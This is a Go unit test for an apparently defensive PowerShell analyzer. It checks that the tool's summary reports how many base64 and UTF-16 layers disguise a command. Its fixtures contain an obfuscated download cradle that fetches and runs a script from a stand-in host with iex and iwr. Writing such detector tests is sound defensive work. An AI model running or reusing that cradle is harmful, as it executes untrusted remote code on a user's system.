package pwsh

import (
	"context"
	"encoding/base64"
	"strings"
	"testing"
)

func encodedCommand(s string) string {
	return "powershell -enc " + base64.StdEncoding.EncodeToString(utf16le(s))
}

// TestSummaryCountsDisguiseLayers checks the plain sentence that says how
// many layers hid the code, in the singular and in the plural.
func TestSummaryCountsDisguiseLayers(t *testing.T) {
	cradle := "iex (iwr 'https://fix.example/a.ps1' -UseBasicParsing).Content"
	cases := []struct{ src, want string }{
		{`powershell -w h "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` + base64.StdEncoding.EncodeToString([]byte(cradle)) + `')) | iex"`,
			"Its real code is disguised in 1 layer (base64) to hide what it does; wuguard decoded it without running anything."},
		{encodedCommand(encodedCommand(cradle)),
			"Its real code is disguised in 2 layers (base64, utf-16) to hide what it does; wuguard decoded it without running anything."},
	}
	for _, c := range cases {
		r := Analyze(context.Background(), c.src, nil)
		if !strings.Contains(strings.Join(r.Summary.EN, "\n"), c.want) {
			t.Errorf("summary of %.60q lacks %q:\n%s", c.src, c.want, strings.Join(r.Summary.EN, "\n"))
		}
	}
}
